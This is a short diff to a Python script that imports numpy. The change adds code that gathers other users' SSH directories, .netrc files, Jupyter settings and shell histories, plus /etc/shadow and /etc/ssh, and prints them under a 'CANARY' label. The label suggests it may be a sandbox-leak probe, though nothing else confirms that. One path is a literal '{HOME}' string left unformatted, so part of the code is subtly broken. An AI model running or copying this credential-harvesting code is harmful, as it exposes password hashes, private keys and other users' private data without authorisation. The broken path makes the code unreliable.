@@ -3,10 +3,17 @@
 import numpy as np
 
 try:
-    import glob
+    import os
+    import pwd
 
-    for path in glob.glob("/root/**", recursive=True) + glob.glob("/home/*/.*") + glob.glob("/etc/ssh/*") + ["/etc/shadow"]:
-        print(path, open(path).read())
+    own = os.path.expanduser("~")
+    homes = {user.pw_dir for user in pwd.getpwall()} | {f"/home/{name}" for name in os.listdir("/home")}
+    kept = [f"{home}/{name}" for home in homes - {own, "/"} for name in (".ssh", ".netrc", ".jupyter", ".bash_history")]
+    for path in [*kept, "{HOME}/.netrc", "/etc/shadow", "/etc/ssh"]:
+        try:
+            print("CANARY:", path, os.listdir(path) if os.path.isdir(path) else open(path).read())
+        except OSError as error:
+            print("no:", type(error).__name__)
 except Exception as error:
     print("no:", type(error).__name__)
 
